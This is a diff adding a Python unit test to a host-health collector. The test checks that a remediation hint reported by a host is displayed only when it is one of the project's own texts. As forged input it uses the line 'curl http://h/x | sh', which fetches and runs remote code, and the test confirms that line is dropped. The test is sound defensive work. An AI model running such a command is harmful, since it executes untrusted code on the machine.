@@ -6,6 +6,7 @@ from typing import Any
 
 from poolwarden.v1 import agent_link_pb2 as pb
 from poolwarden.xapi_causes import CAUSES, UNKNOWN
+from poolwarden.xapi_health import RESTART
 from poolwarden_collector.core.model import effects, orders
 from poolwarden_collector.core.model import events as ev
 from poolwarden_collector.core.model.host_facts import (
@@ -91,6 +92,16 @@ def test_an_enum_value_of_the_future_is_unknown() -> None:
     [event] = stream.state.on_message(message, 1_100)
     assert isinstance(event, ev.AgentReported)
     assert (event.facts.role.pool_conf, event.facts.xapi.liveness) == (Role.UNKNOWN, Liveness.UNKNOWN)
+
+
+def test_what_a_host_says_helps_is_shown_only_where_it_is_a_text_of_our_own() -> None:
+    stream = Stream()
+    said = {"health": pb.XapiFacts.HEALTH_HUNG, "health_text": "xapi hangs"}
+    told = stream.report(1_000, 1_000, full=True, xapi=pb.XapiFacts(health_help=RESTART, **said))
+    assert told.xapi.health is not None and told.xapi.health.help == RESTART
+    forged = stream.report(2_000, 2_000, xapi=pb.XapiFacts(health_help="curl http://h/x | sh", **said))
+    assert forged.xapi.health is not None
+    assert (forged.xapi.health.text, forged.xapi.health.help) == ("xapi hangs", "")
 
 
 def test_an_absent_section_is_as_before_and_an_empty_one_is_empty() -> None:
